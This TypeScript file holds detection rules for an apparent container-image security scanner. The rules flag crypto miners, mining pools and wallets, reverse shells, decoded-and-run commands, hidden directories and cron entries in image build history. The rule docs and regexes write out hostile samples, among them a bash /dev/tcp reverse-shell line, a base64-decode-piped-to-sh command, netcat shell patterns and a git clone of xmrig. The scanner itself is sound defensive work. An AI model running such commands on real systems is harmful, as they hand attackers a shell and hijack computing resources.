import type { Rule } from '../rule.ts';
import { behindInPipe, overRuns, type RanCommand, shown, textsOf } from './commands.ts';
import { isDownload } from './downloads.ts';

/** Names of programs that mine, and of what they are built from. */
const miners =
  /\b(?:xmrig(?:-\w+)?|xmr-stak\w*|minerd|cpuminer(?:-\w+)?|ethminer|ccminer|nbminer|t-rex-miner|lolminer|phoenixminer|nanominer|gminer|bfgminer|cgminer|teamredminer|srbminer(?:-\w+)?|cryptonight|nicehash\w*|kinsing|kdevtmpfsi)\b/i;
const pools =
  /\bstratum\d?\+(?:tcp|ssl|tls):\/\/|(?<![\w-])(?:pool\.(?:supportxmr|minexmr|hashvault)|(?:moneroocean\.stream|nanopool\.org|2miners\.com|f2pool\.com|minexmr\.com|supportxmr\.com|nicehash\.com|herominers\.com|unmineable\.com|c3pool\.(?:com|org)|ethermine\.org|hashvault\.pro))\b/i;
/** Address of Monero: base58, 95 characters, begins with 4 or 8. */
const wallet = /\b[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/;

const mining: Rule = {
  doc: {
    id: 'miner',
    kind: 'history',
    title: 'An instruction fetches or starts a miner of crypto-currencies',
    severity: 'critical',
    why: 'It works for somebody else at your expense; such images come from attackers, or from people whose accounts they took over.',
    remediation: 'Do not run the image; find out who built it.',
    aliases: ['veinmind:history:miner-repo'],
    example: { wrong: 'RUN git clone https://github.com/xmrig/xmrig', right: '# build from sources that you know' },
    caveats: 'An image that is made to mine, by whoever pays for it, does the same.',
  },
  judge: (image) =>
    overRuns(
      image,
      ({ commands }) => {
        for (const ran of commands) {
          const texts = textsOf(ran);
          const what = texts.some((text) => pools.test(text))
            ? 'the address of a mining pool'
            : texts.some((text) => wallet.test(text))
              ? 'a wallet'
              : undefined;
          if (what !== undefined) return `It runs ${shown(ran)}: ${what}.`;
          const isNamed =
            miners.test(ran.program) ||
            ((isDownload(ran) || /^(?:git|docker|make|cmake|tar|unzip|apt-get|apt|pip3?|npm|go)$/.test(ran.program)) &&
              texts.some((text) => miners.test(text)));
          if (isNamed)
            return { evidence: `It runs ${shown(ran)}: the name of a miner.`, severity: 'high', confidence: 'high' };
        }
        return undefined;
      },
      { starts: true },
    ),
};

const interpreter = /^(?:sh|bash|dash|ash|zsh|ksh|python[\d.]*|perl|ruby|node|php[\d.]*)$/;

const reverseShell: Rule = {
  doc: {
    id: 'reverse-shell',
    kind: 'history',
    title: 'An instruction connects a shell with a host',
    severity: 'critical',
    why: 'Whoever listens there gets a shell in the build, or in containers where the line is written into a file.',
    remediation: 'Do not run the image; find out who built it.',
    aliases: [],
    example: { wrong: 'RUN bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', right: '# there is no right way' },
    sources: ['https://attack.mitre.org/techniques/T1059/004/'],
    caveats: 'Text that is only printed is not told, unless it goes into a file.',
  },
  judge: (image) =>
    overRuns(
      image,
      (run) => {
        for (const ran of run.commands) {
          const what = connects(ran);
          if (what !== undefined) return `It runs ${shown(ran)}: ${what}.`;
        }
        return undefined;
      },
      { starts: true },
    ),
};

/** Texts of other languages by which a shell is connected. */
const connectingText =
  /\/dev\/(?:tcp|udp)\/|\bbash\s{1,5}-i\b.{0,40}[>&]|\b(?:nc|ncat|netcat)\b[^|;&\n]{0,80}\s-(?:e|c)\s{0,5}\/?\S{0,40}sh\b|socket\.socket\(.{0,300}(?:dup2|pty\.spawn|subprocess)|fsockopen\(.{0,200}(?:exec|proc_open|shell_exec)|use\s{1,5}Socket.{0,300}exec\s*\{?["']?\/bin\/|net\.(?:connect|Socket)\(.{0,300}child_process|TCPSocket\.(?:new|open)\(.{0,200}exec/s;

function connects(ran: RanCommand): string | undefined {
  const { program, command, words } = ran;
  const isPrinted = /^(?:echo|printf|cat|tee)$/.test(program);
  const intoFile = (): boolean =>
    command.redirections.some(({ operator }) => /^(?:>>?|>\||&>>?)$/.test(operator)) ||
    behindInPipe(ran).some(
      (other) => other.program === 'tee' || other.program === 'crontab' || interpreter.test(other.program),
    );
  // `cat fifo | sh -i | nc HOST PORT > fifo`: the shell answers to whoever is at the other end.
  if (/^(?:sh|bash|dash|ash|zsh|ksh)$/.test(program) && words.every((word) => word.startsWith('-'))) {
    const answers = behindInPipe(ran).some(
      (other) =>
        /^(?:nc|ncat|netcat|telnet|socat)$/.test(other.program) ||
        (other.program === 'openssl' && other.words[0] === 's_client'),
    );
    if (answers) return 'what the shell says goes to a host';
  }
  if (command.redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\/./.test(target?.text ?? ''))) {
    // A look at whether a port is open is not a shell.
    return /^(?:sh|bash|exec|cat)$/.test(program) || program === '' ? 'a connection by /dev/tcp' : undefined;
  }
  if (/^(?:nc|ncat|netcat)$/.test(program)) {
    const at = words.findIndex((word) => /^-[a-z]*[ec]$|^--(?:exec|sh-exec)$/.test(word));
    return at >= 0 && /sh\b/.test(words[at + 1] ?? '') ? 'netcat hands a shell over' : undefined;
  }
  if (program === 'socat')
    return words.some((word) => /exec:|system:/i.test(word)) && words.some((word) => /tcp|udp|openssl/i.test(word))
      ? 'socat hands a program over'
      : undefined;
  const isCode = interpreter.test(program) && words.some((word) => /^-[a-z]*[ce]$/.test(word) || word === '-r');
  if (isCode || (isPrinted && intoFile())) {
    const texts = textsOf(ran);
    return texts.some((text) => connectingText.test(text))
      ? isCode
        ? 'code that connects a shell'
        : 'it writes code that connects a shell'
      : undefined;
  }
  return undefined;
}

const decoded: Rule = {
  doc: {
    id: 'decoded-and-run',
    kind: 'history',
    title: 'An instruction decodes a text and runs it',
    severity: 'high',
    why: 'Nobody who reads the history sees what runs. Honest builds have no reason for it.',
    remediation: 'Decode it and look at what it does.',
    aliases: [],
    example: { wrong: 'RUN echo ZWNobyBoaQ== | base64 -d | sh', right: 'RUN echo hi' },
    sources: ['https://attack.mitre.org/techniques/T1027/'],
  },
  judge: (image) =>
    overRuns(
      image,
      ({ commands }) => {
        for (const ran of commands) {
          if (!decodes(ran)) continue;
          const { within } = ran.command;
          const isPiped = behindInPipe(ran).some((other) => interpreter.test(other.program));
          const host = within.findLast(({ kind }) => kind === 'substitution' || kind === 'process')?.host;
          const outer = host === undefined ? undefined : commands[host];
          const isRun =
            outer !== undefined &&
            (outer.program === 'eval' ||
              (outer.program === '' && outer.command.words.length > 0) ||
              (interpreter.test(outer.program) && outer.words.some((word) => /^-[a-z]*[ce]$/.test(word))));
          if (isPiped || isRun) return `It runs what ${shown(ran)} decodes.`;
        }
        return undefined;
      },
      { starts: true },
    ),
};

function decodes({ program, words }: RanCommand): boolean {
  switch (program) {
    case 'base64':
    case 'base32':
    case 'basenc':
      return words.some((word) => /^-[a-zA-Z]*[dD]|^--decode$/.test(word));
    case 'openssl':
      return (words[0] === 'base64' || words[0] === 'enc') && words.includes('-d');
    case 'xxd':
      return words.some((word) => /^-[a-z]*r/.test(word));
    case 'rev':
    case 'uudecode':
      return true;
    default:
      return false;
  }
}

const hiddenPlaces: Rule = {
  doc: {
    id: 'hidden-place',
    kind: 'history',
    title: 'An instruction puts something where nobody looks',
    severity: 'high',
    why: 'Names such as ".. ", "..." or .X11-unix in other places are there to be overlooked: attackers keep their programs in them.',
    remediation: 'Look at what is in it.',
    aliases: [],
    example: { wrong: 'RUN mkdir "/tmp/.. " && cp x "/tmp/.. /"', right: 'COPY x /usr/local/bin/' },
    sources: ['https://attack.mitre.org/techniques/T1564/001/'],
  },
  judge: (image) =>
    overRuns(image, ({ commands }) => {
      const found = commands.find((ran) => {
        const isWriter = /^(?:mkdir|cp|mv|install|touch|tar|unzip|curl|wget|chmod|ln|cat|echo|tee)$/.test(ran.program);
        const texts = [...ran.words, ...ran.command.redirections.map(({ target }) => target?.text ?? '')];
        return (
          isWriter &&
          texts.some((text) =>
            /(?:^|\/)(?:\.\.\.+|\.\.? +|\. )(?:\/|$)|\/(?:dev\/shm|var\/tmp|tmp)\/\.(?:X\d|ICE|font|XIM|x|sh|ssh|cache\d|mount|kthread)[\w-]{0,60}\/[^/]|\/dev\/shm\/[^/]/.test(
              text,
            ),
          )
        );
      });
      return found === undefined ? undefined : { evidence: `It runs ${shown(found)}.`, confidence: 'medium' };
    }),
};

const schedule: Rule = {
  doc: {
    id: 'schedule-by-run',
    kind: 'history',
    title: 'An instruction enters something into the schedule of cron',
    severity: 'low',
    why: 'It runs later and by itself, where the image runs cron; few images need that, and attackers stay that way.',
    remediation: 'Let whoever runs containers start jobs (a CronJob of Kubernetes, a timer of the host).',
    aliases: [],
    example: { wrong: 'RUN echo "* * * * * /run.sh" | crontab -', right: 'CMD ["/run.sh"]' },
    caveats: 'Images whose purpose is a schedule do it on purpose.',
  },
  judge: (image) =>
    overRuns(image, ({ commands }) => {
      for (const ran of commands) {
        const isCrontab = ran.program === 'crontab' && !ran.words.includes('-l') && !ran.words.includes('-r');
        const intoCron = ran.command.redirections.some(({ target }) =>
          /^\/(?:etc\/cron|var\/spool\/cron)/.test(target?.text ?? ''),
        );
        if (!isCrontab && !intoCron) continue;
        const fetches = commands.some((other) =>
          textsOf(other).some((text) => /\b(?:curl|wget)\b[^|\n]{0,300}\|\s{0,5}(?:ba)?sh|\/dev\/tcp\//.test(text)),
        );
        return { evidence: `It runs ${shown(ran)}.`, ...(fetches && { severity: 'critical' as const }) };
      }
      return undefined;
    }),
};

export const indicatorRules: readonly Rule[] = [mining, reverseShell, decoded, hiddenPlaces, schedule];
